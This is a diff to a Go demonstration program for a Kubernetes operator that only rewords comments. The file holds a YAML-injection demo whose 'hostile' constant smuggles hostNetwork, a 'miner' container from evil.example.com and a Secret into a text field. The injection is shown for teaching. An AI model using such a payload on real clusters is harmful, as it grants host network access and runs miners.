@@ -13,7 +13,7 @@ import (
 	apierrors "k8s.io/apimachinery/pkg/api/errors"
 )
 
-// newApp is an Appoperator.
+// newApp returns an Appoperator.
 func newApp(name string, spec map[string]any) *unstructured.Unstructured {
 	return &unstructured.Unstructured{Object: map[string]any{
 		"apiVersion": apps.GroupVersion().String(), "kind": "Appoperator",
@@ -21,7 +21,7 @@ func newApp(name string, spec map[string]any) *unstructured.Unstructured {
 	}}
 }
 
-// showInvalid creates an Appoperator that a rule of the config refuses.
+// showInvalid creates an Appoperator that violates a rule of the config.
 func showInvalid(ctx context.Context, s *stage) error {
 	const name = "too-many"
 	s.tell.say("The config has the rule self.spec.?replicas.orValue(1) <= 20. Somebody asks for 25 replicas; the author reads")
@@ -50,11 +50,11 @@ func showInvalid(ctx context.Context, s *stage) error {
 	return nil
 }
 
-// hostile is text that becomes fields of the pod wherever templates are filled in as text and parsed afterwards.
+// hostile is text that would become fields of the pod if templates were filled in as text and then parsed.
 const hostile = "hi\"\n      hostNetwork: true\n      containers:\n      - name: miner\n        image: evil.example.com/miner\n      x: " +
 	"\"\n---\nkind: Secret\n{{ .metadata }}"
 
-// showInjection creates an Appoperator whose text is full of YAML.
+// showInjection creates an Appoperator whose text contains YAML.
 func showInjection(ctx context.Context, s *stage) error {
 	const name = "intruder"
 	s.tell.say("Whoever may create an Appoperator, and nothing else, tries for more through a text field:")
